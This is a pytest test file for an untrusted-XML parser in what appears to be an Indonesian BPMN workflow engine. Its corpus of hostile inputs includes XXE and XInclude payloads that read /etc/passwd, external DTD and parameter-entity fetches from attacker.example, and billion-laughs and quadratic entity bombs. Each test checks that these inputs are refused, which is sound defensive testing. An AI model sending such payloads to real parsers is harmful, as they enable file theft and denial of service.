"""Tests of the untrusted-XML parser: a corpus of hostile files, and a valid BPMN diagram."""

from __future__ import annotations

import pytest
from lxml import etree

from engine.bpmn.xmlsafe import MAX_XML_BYTES, parse_xml
from engine.errors import UnsafeXml

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol9;</lolz>"""

QUADRATIC = (
    b'<?xml version="1.0"?>\n<!DOCTYPE kaboom [<!ENTITY a "'
    + b"a" * 50_000
    + b'">]>\n<kaboom>'
    + b"&a;" * 5_000
    + b"</kaboom>"
)

XXE = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<foo>&xxe;</foo>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE definitions SYSTEM "http://attacker.example/evil.dtd">
<definitions/>"""

PARAMETER_ENTITIES = b"""<?xml version="1.0"?>
<!DOCTYPE data [
  <!ENTITY % remote SYSTEM "http://attacker.example/x.dtd">
  %remote;
]>
<data/>"""

DOCTYPE_AFTER_COMMENT = b"""<?xml version="1.0"?>
<!-- harmless looking -->
<!DOCTYPE foo [<!ENTITY x "y">]><foo>&x;</foo>"""

XINCLUDE = b"""<?xml version="1.0"?>
<root xmlns:xi="http://www.w3.org/2001/XInclude">
  <xi:include href="file:///etc/passwd" parse="text"/>
</root>"""

UNDEFINED_ENTITY = b'<?xml version="1.0"?><root>&secret;</root>'

LATIN1 = '<?xml version="1.0" encoding="ISO-8859-1"?><root>Pemohon: Jos\xe9</root>'.encode("latin-1")
LATIN1_DECLARED_ASCII_BODY = b'<?xml version="1.0" encoding="ISO-8859-1"?><root>ascii only</root>'
UTF16 = '<?xml version="1.0" encoding="UTF-16"?><root/>'.encode("utf-16")
TRUNCATED = (
    b'<?xml version="1.0"?><bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL">'
    b'<bpmn:process id="p">'
)
NOT_XML = b"Ini bukan XML, hanya teks biasa.\n"

CORPUS = {
    "billion_laughs": BILLION_LAUGHS,
    "quadratic_blowup": QUADRATIC,
    "xxe_file": XXE,
    "external_dtd": EXTERNAL_DTD,
    "parameter_entities": PARAMETER_ENTITIES,
    "doctype_after_comment": DOCTYPE_AFTER_COMMENT,
    "xinclude": XINCLUDE,
    "undefined_entity": UNDEFINED_ENTITY,
    "oversized": b"<root>" + b"x" * MAX_XML_BYTES + b"</root>",
    "latin1_bytes": LATIN1,
    "latin1_declared": LATIN1_DECLARED_ASCII_BODY,
    "utf16_bom": UTF16,
    "truncated": TRUNCATED,
    "empty": b"",
    "whitespace_only": b"  \n\t",
    "not_xml": NOT_XML,
}

VALID_BPMN = b"""<?xml version="1.0" encoding="UTF-8"?>
<!-- Diagram Persetujuan Bangunan Gedung -->
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"
    xmlns:spiffworkflow="http://spiffworkflow.org/bpmn/schema/1.0/core"
    id="Definitions_pbg" targetNamespace="http://bpmn.io/schema/bpmn">
  <bpmn:process id="pbg" name="Persetujuan Bangunan Gedung" isExecutable="true">
    <bpmn:startEvent id="StartEvent_1"><bpmn:outgoing>Flow_1</bpmn:outgoing></bpmn:startEvent>
    <bpmn:sequenceFlow id="Flow_1" sourceRef="StartEvent_1" targetRef="Script_hitung"/>
    <bpmn:scriptTask id="Script_hitung" name="Hitung retribusi">
      <bpmn:script><![CDATA[note = "<!DOCTYPE is only text here & so is &amp;"]]></bpmn:script>
    </bpmn:scriptTask>
    <bpmn:sequenceFlow id="Flow_2" sourceRef="Script_hitung" targetRef="EndEvent_issued"/>
    <bpmn:endEvent id="EndEvent_issued" name="Izin terbit"/>
  </bpmn:process>
</bpmn:definitions>
"""


@pytest.mark.parametrize("name", sorted(CORPUS))
def test_hostile_xml_is_refused(name: str) -> None:
    with pytest.raises(UnsafeXml) as info:
        parse_xml(CORPUS[name], filename=f"{name}.bpmn")
    error = info.value
    assert error.filename == f"{name}.bpmn"
    message = error.message
    assert message.startswith(f"{name}.bpmn: ")
    assert len(message) < 300
    assert "root:x:0:0" not in message  # nothing was read from the file system
    assert "Traceback" not in message


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("billion_laughs", "DOCTYPE"),
        ("xxe_file", "DOCTYPE"),
        ("external_dtd", "DOCTYPE"),
        ("parameter_entities", "DOCTYPE"),
        ("doctype_after_comment", "DOCTYPE"),
        ("xinclude", "XInclude"),
        ("oversized", "at most"),
        ("latin1_bytes", "UTF-8"),
        ("latin1_declared", "ISO-8859-1"),
        ("utf16_bom", "UTF-16"),
        ("truncated", "line 1"),
        ("empty", "empty"),
        ("not_xml", "line 1, column 1"),
    ],
)
def test_refusal_message_says_what_is_wrong(name: str, words: str) -> None:
    with pytest.raises(UnsafeXml) as info:
        parse_xml(CORPUS[name], filename="f.bpmn")
    assert words in info.value.message


def test_max_bytes_can_be_lowered() -> None:
    with pytest.raises(UnsafeXml, match="at most 100 bytes"):
        parse_xml(VALID_BPMN, filename="p.bpmn", max_bytes=100)


def test_valid_bpmn_is_accepted() -> None:
    root = parse_xml(VALID_BPMN, filename="pbg.bpmn")
    assert root.tag == "{http://www.omg.org/spec/BPMN/20100524/MODEL}definitions"
    ns = {"bpmn": "http://www.omg.org/spec/BPMN/20100524/MODEL"}
    script = root.find(".//bpmn:script", ns)
    assert script is not None
    assert script.text is not None
    assert script.text.startswith('note = "<!DOCTYPE')
    assert root.getroottree().docinfo.doctype == ""


def test_utf8_bom_and_declaration_are_accepted() -> None:
    data = b"\xef\xbb\xbf" + b'<?xml version="1.0" encoding="utf-8"?>\n<root>Persetujuan \xc3\xa9</root>'
    assert parse_xml(data, filename="bom.dmn").text == "Persetujuan \u00e9"


def test_processing_instruction_after_declaration_is_accepted() -> None:
    data = b'<?xml version="1.0"?>\n<?editor bpmn-js?>\n<root><?note keep?></root>'
    assert parse_xml(data, filename="pi.bpmn").tag == "root"


@pytest.mark.parametrize("name", ["billion_laughs", "xxe_file", "parameter_entities"])
def test_tree_check_refuses_doctype_even_if_the_scan_missed_it(name: str) -> None:
    # Defence in depth: parse with the module's own parser settings, skipping the prolog scan.
    from engine.bpmn import xmlsafe as xmlsafe

    root = xmlsafe._parse(CORPUS[name], "f.bpmn")
    assert b"root:x:0:0" not in etree.tostring(root)  # nothing was expanded or fetched
    with pytest.raises(UnsafeXml, match="DOCTYPE"):
        xmlsafe._check_tree(root, "f.bpmn")


def test_parser_itself_stops_entity_amplification() -> None:
    from engine.bpmn import xmlsafe as xmlsafe

    with pytest.raises(UnsafeXml, match="amplification"):
        xmlsafe._parse(QUADRATIC, "f.bpmn")
